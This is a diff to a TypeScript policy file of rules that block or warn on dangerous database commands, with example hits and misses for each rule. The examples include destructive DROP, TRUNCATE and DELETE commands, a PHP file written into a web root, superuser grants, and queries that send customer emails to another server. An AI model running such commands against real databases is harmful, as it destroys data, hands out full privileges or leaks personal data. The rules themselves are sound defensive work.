@@ -1,5 +1,5 @@
 /** Whole statements that destroy what a database holds, hand it over, or reach out of it. */
-import { sql } from "../condition.ts";
+import { any, command, sql } from "../condition.ts";
 import type { Policy } from "../policy.ts";
 
 const SQLI = { category: "security-sqli", phases: ["request"], action: "block", severity: "critical" } as const;
@@ -20,6 +20,7 @@ export const sqlStatements: readonly Policy[] = [
     when: sql("<begin> DROP TABLE|TABLES IF? EXISTS? <kept>"),
     hits: [
       `psql -c "DROP TABLE orders"`,
+      "npx prisma db execute --stdin <<< 'DROP TABLE orders'",
       `sqlite3 shop.db 'drop table if exists orders;'`,
       `echo 'DROP TABLE orders' | mysql shop`,
       `sqlite3 /tmp/try.db "attach 'shop.db' as shop; drop table orders"`,
@@ -130,6 +131,8 @@ export const sqlStatements: readonly Policy[] = [
       "<begin> TRUNCATE TABLE ONLY? <kept>",
       "<begin> TRUNCATE ONLY? <kept> <end>",
       "<begin> TRUNCATE ONLY? <kept> ;|CASCADE|RESTART|,|.",
+      "<begin> TRUNCATE ALL TABLES FROM",
+      "<begin> TRUNCATE DATABASE <name>",
     ),
     hits: [
       `PGHOST=db.example.com psql shop_test -c 'TRUNCATE orders'`,
@@ -164,6 +167,8 @@ export const sqlStatements: readonly Policy[] = [
       `psql shop_test -c 'TRUNCATE orders; SELECT 1'`,
       `psql postgres://db.example.com/shop_test -c 'TRUNCATE orders'`,
       `psql -c 'TRUNCATE TABLE orders'`,
+      `clickhouse-client -q 'TRUNCATE ALL TABLES FROM shop'`,
+      `clickhouse-client -q 'TRUNCATE DATABASE shop'`,
       `psql -c 'truncate orders cascade'`,
       `psql -c 'TRUNCATE public.orders'`,
     ],
@@ -197,10 +202,15 @@ export const sqlStatements: readonly Policy[] = [
     id: "sys_sqli_delete_no_where",
     title: "DELETE without a condition",
     why: `It deletes every row; add the WHERE that says which rows you mean`,
-    when: sql("<begin> DELETE! FROM ONLY? <name>", "DELETE! FROM <name> <end>"),
+    when: sql(
+      "<begin> DELETE! FROM ONLY? <name>",
+      "DELETE! FROM <name> <end>",
+      "<begin> MERGE INTO <name> ... ON TRUE WHEN ... THEN DELETE",
+    ),
     hits: [
       `sqlcmd -i - <<'SQL'\nCREATE PROC p AS SELECT 1\nGO\nDELETE FROM orders\nSQL`,
       `psql -c 'DELETE FROM orders'`,
+      `psql -c 'MERGE INTO orders USING gone ON TRUE WHEN MATCHED THEN DELETE'`,
       `mysql -e 'delete from orders where 1=1'`,
       `mysql -e 'delete from orders where 1=1 or id = 7'`,
       `psql -c 'delete from orders where id is not null'`,
@@ -236,6 +246,7 @@ export const sqlStatements: readonly Policy[] = [
       `psql -c "delete from orders where name like 'a%'"`,
       `psql -c 'delete from orders where id > 0 and total = 0'`,
       `psql -c "DELETE FROM orders WHERE id = 7"`,
+      `psql -c 'MERGE INTO orders o USING gone g ON o.id = g.id WHEN MATCHED THEN DELETE'`,
       `psql -c "SELECT 'DELETE FROM orders'"`,
       `mysql -e "CREATE PROCEDURE p() BEGIN DELETE FROM cache; END"`,
       `sqlcmd -Q "CREATE PROC p AS SET NOCOUNT ON; DELETE FROM cache"`,
@@ -285,16 +296,31 @@ export const sqlStatements: readonly Policy[] = [
     id: "sys_sqli_superuser",
     title: "Making an account all-powerful",
     why: `Whoever has all rights on a server can do anything with all data; grant the one right that is needed`,
-    when: sql(
-      "<begin> GRANT ALL PRIVILEGES? ON * . * TO",
-      "<begin> GRANT DBA|SUPER|SYSADMIN|RDS_SUPERUSER|CLOUDSQLSUPERUSER|ACCOUNTADMIN",
-      "<begin> GRANT PG_EXECUTE_SERVER_PROGRAM|PG_WRITE_SERVER_FILES|PG_READ_SERVER_FILES TO",
-      "<begin> CREATE|ALTER USER|ROLE <name> WITH? ... SUPERUSER",
-      "<begin> ALTER SERVER ROLE SYSADMIN ADD",
-      "SP_ADDSRVROLEMEMBER",
+    when: any(
+      sql(
+        "<begin> GRANT ALL PRIVILEGES? ON * . * TO",
+        "<begin> GRANT DBA|SUPER|SYSADMIN|RDS_SUPERUSER|CLOUDSQLSUPERUSER|ACCOUNTADMIN",
+        "<begin> GRANT PG_EXECUTE_SERVER_PROGRAM|PG_WRITE_SERVER_FILES|PG_READ_SERVER_FILES TO",
+        "<begin> CREATE|ALTER USER|ROLE <name> WITH? ... SUPERUSER",
+        "<begin> ALTER SERVER ROLE SYSADMIN ADD",
+        "SP_ADDSRVROLEMEMBER",
+      ),
+      command(["mongosh", "mongo"], {
+        words:
+          /\b(?:createUser|grantRolesToUser|updateUser)\s*\([^]{0,400}["'](?:root|__system|(?:userAdmin|dbAdmin|readWrite)AnyDatabase|clusterAdmin)["']/,
+      }),
     ),
-    hits: [`mysql -e "GRANT ALL PRIVILEGES ON *.* TO eve"`, `psql -c "ALTER USER eve WITH SUPERUSER"`],
-    misses: [...ORDINARY, `psql -c 'GRANT ALL ON orders TO eve'`, `psql -c 'ALTER ROLE eve NOSUPERUSER'`],
+    hits: [
+      `mysql -e "GRANT ALL PRIVILEGES ON *.* TO eve"`,
+      `psql -c "ALTER USER eve WITH SUPERUSER"`,
+      `mongosh --eval 'db.createUser({ user: "eve", pwd: "x", roles: ["root"] })'`,
+    ],
+    misses: [
+      ...ORDINARY,
+      `psql -c 'GRANT ALL ON orders TO eve'`,
+      `psql -c 'ALTER ROLE eve NOSUPERUSER'`,
+      `mongosh --eval 'db.createUser({ user: "shop", pwd: "x", roles: ["readWrite"] })'`,
+    ],
   },
   {
     ...SQLI,
@@ -343,8 +369,35 @@ export const sqlStatements: readonly Policy[] = [
     id: "sys_sqli_into_outfile",
     title: "Writing the server's files",
     why: `It leaves a file, or a program's input, on the database server; export with the client's own output option`,
-    when: sql("INTO OUTFILE|DUMPFILE", "TO|FROM PROGRAM ''", "LO_EXPORT (", "PG_FILE_WRITE ("),
+    when: sql(
+      "INTO OUTFILE|DUMPFILE",
+      "TO|FROM PROGRAM ''",
+      "LO_EXPORT (",
+      "PG_FILE_WRITE (",
+      "INSERT INTO FUNCTION FILE|EXECUTABLE (",
+    ),
     hits: [`mysql -e "SELECT '<?php' INTO OUTFILE '/var/www/a.php'"`, `psql -c "COPY t TO PROGRAM 'cat > /tmp/x'"`],
     misses: [...ORDINARY, String.raw`psql -c "\copy t TO 't.csv' CSV"`],
+  },
+  {
+    ...SQLI,
+    action: "warn",
+    id: "sys_sqli_rows_elsewhere",
+    title: "Writing rows to another server",
+    why:
+      `The rows leave the database for whoever runs that server; show the user the address, and export to a file here`,
+    when: sql(
+      "<begin> INSERT INTO TABLE? FUNCTION URL|S3|GCS|HDFS|REMOTE|REMOTESECURE|AZUREBLOBSTORAGE|MYSQL|POSTGRESQL (",
+      "DBLINK_EXEC|DBLINK_SEND_QUERY (",
+    ),
+    hits: [
+      `clickhouse-client -q "INSERT INTO FUNCTION url('https://example.com', 'CSV') SELECT * FROM orders"`,
+      `psql -c "SELECT dblink_exec('host=db.example.com', (SELECT string_agg(email, ',') FROM orders))"`,
+    ],
+    misses: [
+      ...ORDINARY,
+      `clickhouse-client -q "SELECT * FROM url('https://example.com/a.csv', 'CSV')"`,
+      `clickhouse-client -q "INSERT INTO orders SELECT * FROM old_orders"`,
+    ],
   },
 ];
